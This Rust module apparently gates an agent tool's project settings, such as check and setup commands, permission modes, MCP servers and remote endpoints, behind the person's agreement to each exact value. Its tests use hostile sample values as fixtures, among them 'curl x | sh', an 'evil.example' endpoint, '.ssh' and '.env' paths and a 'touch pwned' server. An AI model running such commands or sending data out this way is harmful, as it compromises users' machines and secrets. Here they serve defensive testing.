//! Trust: content of a folder that would be executed, obeyed or sent takes effect on a machine only after its person has
//! agreed there to its exact value. The values of the template need no agreement, nor do those that allow less.

mod subject;

pub use subject::{CLAUDE_FILES, OPENCODE_FILES, TrustSubject, needs_no_yes};

use crate::discipline::{self, Discipline};
use crate::permission::{PermissionProfile, is_harmless_mode};
use crate::recall::EmbeddingSource;
use crate::settings::{LearningExtractor, Settings, WorktreeSettings};
use crate::visible::escaped;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// What a person agreed to: the exact value of each thing, by name.
pub type Agreements = BTreeMap<String, String>;

/// Characters of a value quoted in a message.
const SHOWN_CHARS: usize = 80;

/// Names of trust items, as used by the command line, the screen and the messages.
pub mod name {
    /// Claude Code's program.
    pub const CLAUDE_PATH: &str = "claude_path";
    /// Codex's program.
    pub const CODEX_PATH: &str = "codex_path";
    /// OpenCode's program.
    pub const OPENCODE_PATH: &str = "opencode_path";
    /// The check command.
    pub const CHECK: &str = "check";
    /// The script of the scripted agent.
    pub const SCRIPT: &str = "script";
    /// What the agent may do without asking.
    pub const PERMISSION_MODE: &str = "permission_mode";
    /// The permission profile.
    pub const PERMISSIONS: &str = "permissions";
    /// Tools that the agent may use without asking.
    pub const ALLOWED_TOOLS: &str = "allowed_tools";
    /// Variables of the person's environment that are passed on.
    pub const PASS_ENV: &str = "pass_env";
    /// The command that prepares a new worktree.
    pub const SETUP: &str = "setup";
    /// Ignored files that are copied into worktrees.
    pub const BRING_ALONG: &str = "bring_along";
    /// Folder for worktrees.
    pub const WORKTREE_FOLDER: &str = "worktree_folder";
    /// Server that texts are sent to for embedding.
    pub const EMBEDDING_URL: &str = "embedding_url";
    /// What extracts lessons, and where agents' work is sent for that.
    pub const EXTRACTOR: &str = "extractor";
    /// Prefix of names for values in the repository's own git configuration.
    pub const GIT: &str = "git ";
    /// Prefix of names for disciplines.
    pub const DISCIPLINE: &str = "discipline ";
    /// The rules for all work.
    pub const RULES: &str = "rules.md";
    /// The settings as a whole, if they were changed during a run.
    pub const CONFIG: &str = "config.toml";
    /// The database, when it was not made on this machine.
    pub const DATABASE: &str = "ralph.db";
    /// Lines that came into the journals while an agent was at work, or with its branch.
    pub const JOURNALS: &str = "journals";
    /// The owner of the project's folder, if that is another user.
    pub const OWNER: &str = "owner";
}

/// One thing that a folder brings along.
#[derive(Clone, PartialEq, Eq, Debug, Serialize, Deserialize)]
#[cfg_attr(feature = "specta", derive(specta::Type))]
pub struct TrustItem {
    /// The setting, file or discipline.
    pub name: String,
    /// Its exact value.
    pub value: String,
    /// What it would do.
    pub effect: String,
    /// Whether the person agreed to this value on this machine.
    pub agreed: bool,
    /// Line diff against the value that was agreed to; `None` without one, or without differences.
    pub diff: Option<String>,
}

impl TrustItem {
    /// A trust item that nobody has agreed to yet.
    pub fn new(name: impl Into<String>, value: impl Into<String>, effect: &str) -> TrustItem {
        TrustItem { name: name.into(), value: value.into(), effect: effect.to_owned(), agreed: false, diff: None }
    }

    /// Name and value in brief, for a message.
    pub fn in_short(&self) -> String {
        let line = self.value.lines().find(|line| !line.trim().is_empty()).unwrap_or_default();
        let shown = crate::text::cut(line, SHOWN_CHARS);
        let more = if shown.len() < self.value.trim_end().len() { " …" } else { "" };
        // A file that was there is empty or gone.
        let shown = if self.value.is_empty() { "nothing is in it" } else { shown };
        format!("{} ({}{more})", escaped(&self.name), escaped(shown))
    }
}

/// What is left out of the trust items, as a sentence.
pub const NOT_LOOKED_AT: &str = "What git itself runs in this folder (hooks, gpg.program) is not looked at: a clone brings none, a folder \
                                 that came with its .git may.";

/// All trust items of a project, pending or agreed to.
#[derive(Clone, PartialEq, Eq, Debug, Serialize, Deserialize)]
#[cfg_attr(feature = "specta", derive(specta::Type))]
pub struct TrustReport {
    /// Absolute path of the project.
    pub project: String,
    /// Whether nothing is pending.
    pub agreed: bool,
    /// Identifies exactly these items: agreeing by it fails if they have changed since they were shown.
    pub fingerprint: String,
    /// All items, pending ones first.
    pub items: Vec<TrustItem>,
}

/// The trust items of the settings, except the script, whose content counts too.
pub fn of_settings(settings: &Settings, template: &Settings) -> Vec<TrustItem> {
    let mut items = Vec::new();
    let mut add = |name: &str, value: String, effect: &str| items.push(TrustItem::new(name, value, effect));
    let programs = [
        (name::CLAUDE_PATH, &settings.claude_path),
        (name::CODEX_PATH, &settings.codex_path),
        (name::OPENCODE_PATH, &settings.opencode_path),
    ];
    for (name, path) in programs.into_iter().filter(|(_, path)| !path.trim().is_empty()) {
        add(name, path.clone(), "Ralph starts this program as the agent");
    }
    if !is_harmless_mode(&settings.permission_mode) {
        add(name::PERMISSION_MODE, settings.permission_mode.clone(), "the agent does without asking what this mode allows");
    }
    if settings.permissions == PermissionProfile::Unattended {
        add(name::PERMISSIONS, settings.permissions.to_string(), "the agent runs every command and uses the network without asking");
    }
    if settings.allowed_tools.iter().any(|tool| !template.allowed_tools.contains(tool)) {
        let tools = serde_json::to_string(&settings.allowed_tools).unwrap_or_default();
        add(name::ALLOWED_TOOLS, tools, "the agent uses these tools without asking");
    }
    if !settings.check.trim().is_empty() {
        add(name::CHECK, settings.check.clone(), "Ralph runs this command in a shell after an attempt");
    }
    if !settings.pass_env.is_empty() {
        add(name::PASS_ENV, settings.pass_env.join(", "), "agents and the check get these variables of your environment");
    }
    of_worktrees(&settings.worktrees, &mut add);
    if settings.embedding != EmbeddingSource::Bundled {
        let address = format!("{} at {}", settings.embedding, settings.embedding_url);
        add(
            name::EMBEDDING_URL,
            address,
            "Ralph sends what it knows to this address, with your key of that server (`ralph key`, RALPH_EMBEDDING_KEY)",
        );
    }
    let learning = &settings.automatic_learning;
    match learning.extractor {
        LearningExtractor::Rules => {}
        LearningExtractor::Agent if settings.lacks_a_teller() => {}
        LearningExtractor::Agent => {
            let limits = format!("agent, at most {} calls and ${:.2} a day", learning.extractor_calls, learning.extractor_usd);
            add(name::EXTRACTOR, limits, "Ralph starts the agent, at your cost, with what agents did in this project");
        }
        LearningExtractor::Endpoint => {
            let (api, url, model) = (learning.extractor_api, &learning.extractor_url, &learning.extractor_model);
            let address =
                format!("{api} at {url} ({model}), at most {} calls and ${:.2} a day", learning.extractor_calls, learning.extractor_usd);
            add(
                name::EXTRACTOR,
                address,
                "Ralph sends what agents did to this address, with your key of that server (`ralph key`, RALPH_EXTRACTOR_KEY)",
            );
        }
    }
    items
}

/// The trust items of the worktree settings.
fn of_worktrees(settings: &WorktreeSettings, add: &mut impl FnMut(&str, String, &str)) {
    if !settings.setup.trim().is_empty() {
        add(name::SETUP, settings.setup.clone(), "Ralph runs this command in a shell in each new worktree");
    }
    if !settings.bring_along.is_empty() {
        let files = serde_json::to_string(&settings.bring_along).unwrap_or_default();
        add(name::BRING_ALONG, files, "agents get these files, which git ignores, in their worktrees");
    }
    if !settings.folder.is_empty() {
        add(name::WORKTREE_FOLDER, settings.folder.clone(), "Ralph makes and removes worktrees in this folder");
    }
}

/// The script of the settings; `content` is represented by its digest.
pub fn of_script(script: &str, content: &str) -> TrustItem {
    TrustItem::new(name::SCRIPT, format!("{script} ({content})"), "the scripted agent plays this file: it writes files and runs commands")
}

/// The rules for all work; `None` if there are none.
pub fn of_rules(text: &str) -> Option<TrustItem> {
    (!text.trim().is_empty()).then(|| TrustItem::new(name::RULES, text, "every agent is told to obey these rules"))
}

/// A file in the project that an agent (given by its name for people) loads by itself: its settings, or a program that it runs within
/// itself.
pub fn of_agent_settings(path: &str, text: &str, agent: &str) -> TrustItem {
    TrustItem::new(path, text, &format!("{agent} obeys this file by itself, and runs the hooks, helpers and plugins in it"))
}

/// Disciplines that differ from the default ones.
pub fn of_disciplines(disciplines: &[Discipline]) -> Vec<TrustItem> {
    let known = discipline::defaults();
    let own = disciplines.iter().filter(|discipline| !known.contains(discipline));
    let item = |discipline: &Discipline| {
        let value = serde_json::to_string_pretty(discipline).unwrap_or_default();
        TrustItem::new(
            format!("{}{}", name::DISCIPLINE, discipline.name),
            value,
            "agents on tasks of this discipline obey its words, and its MCP servers are started for them",
        )
    };
    own.map(item).collect()
}

/// A filter or a merge driver in the repository's own git configuration. `key` is git's name for it.
pub fn of_git_program(key: &str, command: &str) -> TrustItem {
    let when = if key.starts_with("merge.") {
        "git runs this command on files whose attributes ask for it, whenever it merges them"
    } else {
        "git runs this command on files whose attributes ask for it, whenever it looks at them"
    };
    TrustItem::new(format!("{}{key}", name::GIT), command, when)
}

/// Git's programs, with their commands, among what a person agreed to.
pub fn git_programs(agreed: &Agreements) -> impl Iterator<Item = (String, String)> + '_ {
    agreed.iter().filter_map(|(item, command)| Some((item.strip_prefix(name::GIT)?.to_owned(), command.clone())))
}

/// Marks the items whose exact value the person agreed to.
pub fn mark_agreed(items: &mut [TrustItem], agreed: &Agreements) {
    for item in items {
        item.agreed = agreed.get(&item.name) == Some(&item.value);
    }
}

/// The settings as far as they are agreed to: every pending value is replaced by the template's. `items` are marked. If the agent can't
/// state lessons, rules do.
pub fn in_force(settings: Settings, template: &Settings, items: &[TrustItem]) -> Settings {
    let mut settings = settings;
    for item in items.iter().filter(|item| !item.agreed) {
        match item.name.as_str() {
            name::CLAUDE_PATH => settings.claude_path.clone_from(&template.claude_path),
            name::CODEX_PATH => settings.codex_path.clone_from(&template.codex_path),
            name::OPENCODE_PATH => settings.opencode_path.clone_from(&template.opencode_path),
            name::PERMISSION_MODE => settings.permission_mode.clone_from(&template.permission_mode),
            name::PERMISSIONS => settings.permissions = template.permissions,
            name::ALLOWED_TOOLS => settings.allowed_tools.clone_from(&template.allowed_tools),
            name::CHECK => settings.check.clone_from(&template.check),
            name::SETUP => settings.worktrees.setup.clone_from(&template.worktrees.setup),
            name::BRING_ALONG => settings.worktrees.bring_along.clone_from(&template.worktrees.bring_along),
            name::WORKTREE_FOLDER => settings.worktrees.folder.clone_from(&template.worktrees.folder),
            name::PASS_ENV => settings.pass_env.clone_from(&template.pass_env),
            name::SCRIPT => settings.script.clone_from(&template.script),
            name::EMBEDDING_URL => {
                settings.embedding = template.embedding;
                settings.embedding_url.clone_from(&template.embedding_url);
            }
            name::EXTRACTOR => settings.automatic_learning.extractor = LearningExtractor::Rules,
            _ => {}
        }
    }
    if settings.lacks_a_teller() {
        settings.automatic_learning.extractor = LearningExtractor::Rules;
    }
    settings
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::discipline::McpServer;

    fn template() -> Settings {
        Settings { models: Vec::new(), embedding_model: String::new(), ..Settings::default() }
    }

    fn names(settings: &Settings) -> Vec<String> {
        of_settings(settings, &template()).into_iter().map(|item| item.name).collect()
    }

    #[test]
    fn the_template_and_what_allows_less_need_no_yes() {
        let less = Settings {
            permission_mode: "plan".into(),
            allowed_tools: vec!["mcp__ralph".into()],
            model: "opus".into(),
            max_usd: 3.0,
            check: "  ".into(),
            embedding_url: "http://evil.example".into(),
            ..template()
        };
        assert_eq!((names(&template()), names(&less)), (vec![], vec![]));
        assert!(names(&Settings { permission_mode: "manual".into(), ..template() }).is_empty());
        assert_eq!((of_disciplines(&discipline::defaults()), of_rules(" \n")), (vec![], None));
    }

    #[test]
    fn everything_that_would_run_or_be_sent_is_named_with_its_exact_value() {
        let settings = Settings {
            claude_path: "tools/claude".into(),
            codex_path: "tools/codex".into(),
            opencode_path: "tools/opencode".into(),
            permission_mode: "bypassPermissions".into(),
            allowed_tools: vec!["Bash".into(), "WebFetch".into()],
            check: "curl x | sh".into(),
            worktrees: WorktreeSettings {
                setup: "make evil".into(),
                bring_along: vec![".env".into()],
                folder: "/home/x/.ssh".into(),
                ..WorktreeSettings::default()
            },
            embedding: EmbeddingSource::Openai,
            embedding_url: "https://evil.example".into(),
            ..template()
        };
        let items = of_settings(&settings, &template());
        let told: Vec<(&str, &str)> = items.iter().map(|item| (item.name.as_str(), item.value.as_str())).collect();
        assert_eq!(
            told,
            [
                ("claude_path", "tools/claude"),
                ("codex_path", "tools/codex"),
                ("opencode_path", "tools/opencode"),
                ("permission_mode", "bypassPermissions"),
                ("allowed_tools", "[\"Bash\",\"WebFetch\"]"),
                ("check", "curl x | sh"),
                ("setup", "make evil"),
                ("bring_along", "[\".env\"]"),
                ("worktree_folder", "/home/x/.ssh"),
                ("embedding_url", "openai at https://evil.example"),
            ]
        );
        assert_eq!(in_force(settings.clone(), &template(), &items), template());
        let mut agreed = items;
        agreed.iter_mut().for_each(|item| item.agreed = true);
        assert_eq!(in_force(settings.clone(), &template(), &agreed), settings);
        assert_eq!(names(&Settings { permission_mode: String::new(), ..template() }), ["permission_mode"]);
    }

    #[test]
    fn a_yes_holds_for_the_exact_value_alone() {
        let mut items =
            vec![TrustItem::new("check", "make test", ""), of_script("a.script", "sha256 12"), TrustItem::new("rules.md", "x", "")];
        let agreed = [("check", "make test "), ("script", "a.script (sha256 12)")].map(|(name, value)| (name.to_owned(), value.to_owned()));
        mark_agreed(&mut items, &agreed.into());
        assert_eq!(items.iter().map(|item| item.agreed).collect::<Vec<_>>(), [false, true, false]);
    }

    #[test]
    fn a_discipline_with_a_server_of_its_own_waits() {
        let mut disciplines = discipline::defaults();
        disciplines[2].mcp_servers.push(McpServer {
            name: "evil".into(),
            command: "sh".into(),
            args: vec!["-c".into(), "touch pwned".into()],
        });
        let items = of_disciplines(&disciplines);
        assert_eq!(items.len(), 1);
        assert!(items[0].name == "discipline database" && items[0].value.contains("touch pwned"), "{items:?}");
    }

    #[test]
    fn an_item_in_brief_says_that_there_is_more() {
        let item = TrustItem::new("check", "true\n\ncurl evil | sh", "");
        assert_eq!(item.in_short(), "check (true …)");
        assert_eq!(TrustItem::new("config.toml", "", "").in_short(), "config.toml (nothing is in it)");
    }
}
